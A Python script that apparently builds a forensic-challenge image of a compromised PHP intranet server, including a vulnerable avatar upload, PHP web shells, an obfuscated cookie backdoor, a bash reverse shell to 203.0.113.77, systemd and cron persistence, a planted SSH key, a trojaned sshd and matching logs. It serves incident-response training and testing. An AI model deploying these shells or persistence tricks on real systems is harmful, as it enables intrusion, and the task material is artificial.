"""Build the compromised intranet box under a root prefix (deterministic).

Usage: mkbox.py ROOT [--no-owners]. ROOT is "/" for the image; the verifier rebuilds a copy in a
temporary folder to know what every file looked like. Writes the legitimate app (with its deploy
manifest), the users' uploads, the attacker's web shells and persistence, and the logs (Apache
combined format and syslog auth.log, both in server local time, Europe/Berlin, UTC+1 in November).
"""

import gzip
import hashlib
import os
import random
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

R = random.Random(4417)
ATTACKER = "203.0.113.77"
SCANNER = "198.51.100.23"
LOCAL = timezone(timedelta(hours=1))
KEYS = {
    "alice": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICcaxHoPIvrY/k8sp/b9etKjoocp5B4SNDSKZvkHRQRq alice@lt-alice",
    "backup": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAtFuE2jF0A8XrNSvnmTyxK2reaQRUu27dMQqegBI729 ops-backup@backup01",
    "attacker": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM3rFneJ366kx7ozx418FtM8YnrKkB93NR2FEvAUjX3a ops-backup@backup02",
}
FPR = {
    "alice": "SHA256:lwhbMGoH68WmOTDvgR6fMupObZd2NbC4KXLS1vxXXPs",
    "backup": "SHA256:ALjRDJ5cofda4oZSaDGHQYWH/WAk1xkdy4ObeklHGJU",
    "attacker": "SHA256:fPdCKxM+z+P/DOTvscMWJ86/+oPKp23cgOdjeDLMzcc",
}
CRON_LEGIT = [
    "# m h  dom mon dow   command",
    "*/15 * * * * php /srv/www/html/cron/digest.php >/dev/null 2>&1",
    "30 2 * * * find /srv/www/html/uploads/tmp -type f -mtime +2 -delete",
]
CRON_BAD = "*/10 * * * * /usr/local/lib/.fpm/fpm-helper >/dev/null 2>&1"
DEPLOY = datetime(2026, 11, 3, 9, 12, 0, tzinfo=timezone.utc)

# The attacker's events (UTC). The timeline the task asks for is built from these.
FIRST_ACCESS = datetime(2026, 11, 26, 21, 2, 13, tzinfo=timezone.utc)
LOGIN = datetime(2026, 11, 27, 22, 40, 51, tzinfo=timezone.utc)
UPLOAD = datetime(2026, 11, 27, 22, 41, 9, tzinfo=timezone.utc)
FIRST_EXEC = datetime(2026, 11, 27, 22, 41, 30, tzinfo=timezone.utc)
SSH_LOGIN = datetime(2026, 11, 28, 1, 15, 40, tzinfo=timezone.utc)

APP = {
    "index.php": "<?php\nrequire __DIR__ . '/lib/auth.php';\nrequire_login();\ninclude __DIR__ . '/views/home.php';\n",
    "login.php": "<?php\nrequire __DIR__ . '/lib/auth.php';\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n    if (check_password($_POST['user'] ?? '', $_POST['pass'] ?? '')) {\n        header('Location: /');\n        exit;\n    }\n}\ninclude __DIR__ . '/views/login.php';\n",
    "config.php": "<?php\nreturn [\n    'db_dsn' => 'mysql:host=127.0.0.1;dbname=intranet',\n    'db_user' => 'intranet',\n    'upload_dir' => __DIR__ . '/uploads',\n    'mail_from' => 'intranet@tilde-works.example',\n];\n",
    "lib/auth.php": "<?php\nsession_start();\nfunction require_login() {\n    if (empty($_SESSION['user'])) { header('Location: /login.php'); exit; }\n}\nfunction check_password($u, $p) {\n    $row = db()->prepare('SELECT hash FROM users WHERE name = ?');\n    $row->execute([$u]);\n    $h = $row->fetchColumn();\n    if ($h && password_verify($p, $h)) { $_SESSION['user'] = $u; return true; }\n    return false;\n}\n",
    "lib/db.php": "<?php\nfunction db() {\n    static $pdo;\n    $c = require __DIR__ . '/../config.php';\n    return $pdo ??= new PDO($c['db_dsn'], $c['db_user'], getenv('INTRANET_DB_PASS'));\n}\n",
    "lib/mailer.php": "<?php\n// Minimal MIME mailer: attachments are base64 encoded in 76-character lines.\nfunction send_mail($to, $subject, $body, $attachments = []) {\n    $b = md5(uniqid());\n    $msg = \"--$b\\r\\nContent-Type: text/plain; charset=utf-8\\r\\n\\r\\n$body\\r\\n\";\n    foreach ($attachments as $name => $data) {\n        $msg .= \"--$b\\r\\nContent-Disposition: attachment; filename=\\\"$name\\\"\\r\\n\";\n        $msg .= \"Content-Transfer-Encoding: base64\\r\\n\\r\\n\" . chunk_split(base64_encode($data)) . \"\\r\\n\";\n    }\n    return mail($to, $subject, $msg . \"--$b--\", \"MIME-Version: 1.0\\r\\nContent-Type: multipart/mixed; boundary=$b\");\n}\n",
    "lib/images.php": "<?php\nfunction is_image_upload($tmp) {\n    $info = @getimagesize($tmp);\n    return $info !== false;  // only checks the header: GIF89a passes\n}\n",
    "profile/avatar.php": "<?php\nrequire __DIR__ . '/../lib/auth.php';\nrequire __DIR__ . '/../lib/images.php';\nrequire_login();\n$f = $_FILES['avatar'] ?? null;\nif ($f && is_image_upload($f['tmp_name'])) {\n    // keeps the client's extension (the hole the review found)\n    $ext = pathinfo($f['name'], PATHINFO_EXTENSION);\n    move_uploaded_file($f['tmp_name'], __DIR__ . '/../uploads/avatars/' . basename($_POST['uid']) . '.' . $ext);\n}\nheader('Location: /profile/');\n",
    "profile/index.php": "<?php\nrequire __DIR__ . '/../lib/auth.php';\nrequire_login();\ninclude __DIR__ . '/../views/profile.php';\n",
    "admin/tools.php": "<?php\nrequire __DIR__ . '/../lib/auth.php';\nrequire_login();\n// Disk usage page for the admins.\n$usage = shell_exec('du -sh ' . escapeshellarg(__DIR__ . '/../uploads'));\necho '<pre>' . htmlspecialchars($usage) . '</pre>';\n",
    "cron/digest.php": "<?php\nrequire __DIR__ . '/../lib/db.php';\nrequire __DIR__ . '/../lib/mailer.php';\nforeach (db()->query('SELECT email FROM users WHERE digest = 1') as $r) {\n    send_mail($r['email'], 'Intranet digest', 'New posts since yesterday.');\n}\n",
    "views/home.php": "<h1>Tilde Works intranet</h1>\n<p>Welcome back, <?= htmlspecialchars($_SESSION['user']) ?>.</p>\n",
    "views/login.php": "<form method=post><input name=user><input name=pass type=password><button>Log in</button></form>\n",
    "views/profile.php": "<form method=post action=/profile/avatar.php enctype=multipart/form-data><input type=file name=avatar><button>Upload</button></form>\n",
    "assets/css/site.css": "body { font-family: sans-serif; margin: 2em; }\nh1 { color: #225; }\n",
    "assets/js/app.js": "document.querySelectorAll('form').forEach(f => f.addEventListener('submit', () => f.classList.add('busy')));\n",
    ".htaccess": "Options -Indexes\n<FilesMatch \"^config\\.php$\">\n    Require all denied\n</FilesMatch>\n",
    "uploads/tmp/.keep": "",
}

SHELL_PHP = "<?php if(isset($_REQUEST['c'])){echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';} ?>\n"
THUMB = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;<?php @eval($_POST['k']); ?>\n"
HTACCESS_BAD = "AddType application/x-httpd-php .jpg\n"
COMPAT = (
    "<?php\n/* PHP 7 compatibility shims */\n@eval(gzinflate(base64_decode("
    "'y0zNycnXUcjPS8/MSwEA'"
    ")));if(isset($_COOKIE['sid2'])){@system(base64_decode($_COOKIE['sid2']));}\n"
)
UNIT_BAD = (
    "[Unit]\nDescription=PHP FastCGI Process Manager helper\nAfter=network-online.target\n\n"
    "[Service]\nType=simple\nExecStart=/usr/local/lib/.fpm/fpm-helper\nRestart=always\nRestartSec=60\n\n"
    "[Install]\nWantedBy=multi-user.target\n"
)
UNIT_GOOD = (
    "[Unit]\nDescription=Intranet mail queue worker\nAfter=network.target\n\n"
    "[Service]\nUser=www-data\nExecStart=/usr/bin/php /srv/www/html/cron/digest.php --queue\nRestart=on-failure\n\n"
    "[Install]\nWantedBy=multi-user.target\n"
)
PAYLOAD = (
    "#!/bin/bash\n# fpm-helper\nwhile :; do\n    bash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n    sleep 300\ndone\n"
)
SSHD_WRAPPER = (
    "#!/bin/sh\n/usr/local/lib/.fpm/fpm-helper >/dev/null 2>&1 &\nexec /usr/lib/x86_64-linux-gnu/.sshd-compat \"$@\"\n"
)


def ts(d: datetime) -> float:
    return d.timestamp()


def put(root: Path, rel: str, data, mode: int, owner: tuple[int, int] | None, mtime: datetime) -> None:
    p = root / rel.lstrip("/")
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data if isinstance(data, bytes) else data.encode())
    os.chmod(p, mode)
    if owner is not None:
        os.chown(p, *owner)
    os.utime(p, (ts(mtime), ts(mtime)))


def fake_image(kind: str, n: int) -> bytes:
    head = {"jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x06\x00\x00\x00", "pdf": b"%PDF-1.4\n"}[kind]
    return head + bytes(R.randrange(256) for _ in range(n))


def clf(d: datetime) -> str:
    return d.astimezone(LOCAL).strftime("%d/%b/%Y:%H:%M:%S +0100")


def access_lines() -> list[tuple[datetime, str]]:
    out = []
    staff = [f"10.20.0.{i}" for i in (11, 12, 15, 21, 34, 40)]
    agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"]
    pages = ["/", "/profile/", "/assets/css/site.css", "/assets/js/app.js", "/admin/tools.php",
             "/uploads/avatars/u1007.jpg", "/uploads/docs/handbook-2026.pdf"]
    t = datetime(2026, 11, 25, 23, 0, 0, tzinfo=timezone.utc)
    end = datetime(2026, 11, 30, 10, 0, 0, tzinfo=timezone.utc)
    while t < end:
        t += timedelta(seconds=R.randrange(40, 900))
        if 6 <= t.astimezone(LOCAL).hour <= 19 or R.random() < 0.1:
            ip = R.choice(staff)
            page = R.choice(pages)
            out.append((t, f'{ip} - - [{clf(t)}] "GET {page} HTTP/1.1" 200 {R.randrange(300, 40000)} "-" "{R.choice(agents)}"'))
    # a scanner, noise before and after the intrusion
    for day, hour in ((26, 14), (27, 3), (29, 17)):
        t = datetime(2026, 11, day, hour, 11, 5, tzinfo=timezone.utc)
        for probe in ("/wp-login.php", "/.env", "/phpmyadmin/", "/xmlrpc.php", "/.git/config", "/uploads/shell.php"):
            t += timedelta(seconds=R.randrange(1, 4))
            out.append((t, f'{SCANNER} - - [{clf(t)}] "GET {probe} HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x"'))
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"
    a = ATTACKER

    def hit(d, req, code, size, ref="-"):
        out.append((d, f'{a} - - [{clf(d)}] "{req}" {code} {size} "{ref}" "{ua}"'))

    hit(FIRST_ACCESS, "GET / HTTP/1.1", 302, 0)
    hit(FIRST_ACCESS + timedelta(seconds=1), "GET /login.php HTTP/1.1", 200, 1311)
    for k in range(14):
        hit(FIRST_ACCESS + timedelta(minutes=3, seconds=7 * k), "POST /login.php HTTP/1.1", 200, 1344, "http://intranet.tilde-works.example/login.php")
    hit(LOGIN - timedelta(seconds=20), "GET /login.php HTTP/1.1", 200, 1311)
    hit(LOGIN, "POST /login.php HTTP/1.1", 302, 0, "http://intranet.tilde-works.example/login.php")
    hit(LOGIN + timedelta(seconds=4), "GET /profile/ HTTP/1.1", 200, 2210)
    hit(UPLOAD, "POST /profile/avatar.php HTTP/1.1", 302, 0, "http://intranet.tilde-works.example/profile/")
    hit(FIRST_EXEC - timedelta(seconds=9), "GET /uploads/avatars/u1042.php HTTP/1.1", 200, 0)
    cmds = ["id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/srv/www/html/uploads",
            "echo%20AddType%20application/x-httpd-php%20.jpg%20%3E%20../.htaccess",
            "curl%20-s%20http://203.0.113.77/t.gif%20-o%20u1042_thumb.jpg",
            "curl%20-s%20http://203.0.113.77/c.txt%20-o%20../../lib/compat.php"]
    for k, c in enumerate(cmds):
        hit(FIRST_EXEC + timedelta(seconds=26 * k), f"GET /uploads/avatars/u1042.php?c={c} HTTP/1.1", 200, R.randrange(40, 2400))
    hit(datetime(2026, 11, 28, 0, 58, 2, tzinfo=timezone.utc), "POST /uploads/avatars/u1042_thumb.jpg HTTP/1.1", 200, 512)
    hit(datetime(2026, 11, 29, 20, 3, 44, tzinfo=timezone.utc), "GET /lib/compat.php HTTP/1.1", 200, 0)
    hit(datetime(2026, 11, 30, 2, 17, 9, tzinfo=timezone.utc), "GET /lib/compat.php HTTP/1.1", 200, 0)
    out.sort(key=lambda x: x[0])
    return out


def auth_lines() -> list[str]:
    out = []
    pid = 4100

    def syslog(d, msg):
        nonlocal pid
        pid += R.randrange(3, 60)
        out.append((d, f"{d.astimezone(LOCAL).strftime('%b %d %H:%M:%S')} web01 sshd[{pid}]: {msg}"))

    for day in range(26, 31):
        d = datetime(2026, 11, day, 7, 48, 2, tzinfo=timezone.utc) + timedelta(minutes=R.randrange(0, 40))
        syslog(d, f"Accepted publickey for root from 10.20.0.15 port {R.randrange(40000, 60000)} ssh2: ED25519 {FPR['alice']}")
        d2 = datetime(2026, 11, day, 3, 0, 4, tzinfo=timezone.utc)
        syslog(d2, f"Accepted publickey for root from 10.20.0.5 port {R.randrange(40000, 60000)} ssh2: ED25519 {FPR['backup']}")
    for k in range(6):
        d = datetime(2026, 11, 27, 4, 10, 0, tzinfo=timezone.utc) + timedelta(seconds=9 * k)
        syslog(d, f"Invalid user admin from {SCANNER} port {R.randrange(40000, 60000)}")
    syslog(SSH_LOGIN, f"Accepted publickey for root from {ATTACKER} port 50122 ssh2: ED25519 {FPR['attacker']}")
    syslog(datetime(2026, 11, 29, 19, 55, 31, tzinfo=timezone.utc), f"Accepted publickey for root from {ATTACKER} port 50377 ssh2: ED25519 {FPR['attacker']}")
    out.sort(key=lambda x: x[0])
    return [line for _, line in out]


def build(root: Path, owners: bool = True) -> dict[str, str]:
    """Write everything under root; return {absolute path: role} of the attacker's files."""
    www = (33, 33) if owners else None
    rootown = (0, 0) if owners else None
    crontab_gid = 0
    if owners:
        try:
            import grp

            crontab_gid = grp.getgrnam("crontab").gr_gid
        except KeyError:
            crontab_gid = 0
    html = "srv/www/html"
    manifest = []
    for rel, text in APP.items():
        put(root, f"{html}/{rel}", text, 0o644, rootown, DEPLOY)
        manifest.append(f"{hashlib.sha256(text.encode()).hexdigest()}  {rel}")
    put(root, "srv/www/releases/2026.11.3.sha256", "\n".join(sorted(manifest, key=lambda s: s[66:])) + "\n", 0o644, rootown, DEPLOY)
    # users' uploads (not in the manifest)
    for i in range(1001, 1042):
        kind = "png" if i % 5 == 0 else "jpg"
        put(root, f"{html}/uploads/avatars/u{i}.{kind}", fake_image(kind, 600 + i % 300), 0o644, www,
            datetime(2026, 11, 4, 8, 0, tzinfo=timezone.utc) + timedelta(hours=7 * (i - 1000)))
    for name in ("handbook-2026.pdf", "holiday-plan.pdf", "canteen-menu-kw48.pdf", "shell-scripting-course.pdf"):
        put(root, f"{html}/uploads/docs/{name}", fake_image("pdf", 2000 + len(name) * 13), 0o644, www,
            datetime(2026, 11, 10, 12, 0, tzinfo=timezone.utc))
    bad = {}

    def plant(rel, data, mode, own, when, role):
        put(root, rel, data, mode, own, when)
        bad["/" + rel] = role

    plant(f"{html}/uploads/avatars/u1042.php", SHELL_PHP, 0o644, www, UPLOAD, "web shell")
    plant(f"{html}/uploads/.htaccess", HTACCESS_BAD, 0o644, www, FIRST_EXEC + timedelta(seconds=104), "web shell")
    plant(f"{html}/uploads/avatars/u1042_thumb.jpg", THUMB, 0o644, www, FIRST_EXEC + timedelta(seconds=130), "web shell")
    # timestomped to the deploy time
    plant(f"{html}/lib/compat.php", COMPAT, 0o644, www, DEPLOY, "web shell")
    plant("usr/local/lib/.fpm/fpm-helper", PAYLOAD, 0o755, rootown, SSH_LOGIN + timedelta(minutes=3), "payload")
    plant("etc/systemd/system/php-fpm-helper.service", UNIT_BAD, 0o644, rootown, SSH_LOGIN + timedelta(minutes=4), "persistence")
    put(root, "etc/systemd/system/intranet-queue.service", UNIT_GOOD, 0o644, rootown, DEPLOY)
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True, exist_ok=True)
    for unit in ("intranet-queue.service", "php-fpm-helper.service"):
        link = wants / unit
        if not link.is_symlink():
            link.symlink_to(f"/etc/systemd/system/{unit}")
    # root's keys: the attacker's line sits between the two real ones
    put(root, "root/.ssh/authorized_keys", "\n".join([KEYS["alice"], KEYS["attacker"], KEYS["backup"]]) + "\n", 0o600, rootown,
        SSH_LOGIN - timedelta(minutes=2))
    os.chmod(root / "root/.ssh", 0o700)
    put(root, "var/spool/cron/crontabs/www-data", "\n".join(CRON_LEGIT[:2] + [CRON_BAD] + CRON_LEGIT[2:]) + "\n", 0o600,
        (33, crontab_gid) if owners else None, SSH_LOGIN - timedelta(minutes=30))
    os.chmod(root / "var/spool/cron/crontabs", 0o1730)
    # logs: daily rotation at 06:25 local, the oldest compressed
    lines = access_lines()
    cut1 = datetime(2026, 11, 27, 5, 25, tzinfo=timezone.utc)
    cut2 = datetime(2026, 11, 28, 5, 25, tzinfo=timezone.utc)
    logs = root / "var/log/apache2"
    logs.mkdir(parents=True, exist_ok=True)
    old = "".join(line + "\n" for d, line in lines if d < cut1).encode()
    (logs / "access.log.2.gz").write_bytes(gzip.compress(old, mtime=int(ts(cut1))))
    (logs / "access.log.1").write_text("".join(line + "\n" for d, line in lines if cut1 <= d < cut2))
    (logs / "access.log").write_text("".join(line + "\n" for d, line in lines if d >= cut2))
    (root / "var/log/auth.log").write_text("\n".join(auth_lines()) + "\n")
    return bad


def sshd_trojan(root: Path) -> dict[str, str]:
    """Replace sshd with the attacker's wrapper (starts the payload), hiding the real one (image build only)."""
    real = root / "usr/sbin/sshd"
    hidden = root / "usr/lib/x86_64-linux-gnu/.sshd-compat"
    hidden.write_bytes(real.read_bytes())
    os.chmod(hidden, 0o755)
    when = ts(SSH_LOGIN + timedelta(minutes=6))
    os.utime(hidden, (when, when))
    real.write_text(SSHD_WRAPPER)
    os.chmod(real, 0o755)
    os.utime(real, (when, when))
    return {"/usr/sbin/sshd": "trojan", "/usr/lib/x86_64-linux-gnu/.sshd-compat": "payload"}


if __name__ == "__main__":
    target = Path(sys.argv[1])
    build(target, owners="--no-owners" not in sys.argv)
    if "--trojan-sshd" in sys.argv:
        sshd_trojan(target)
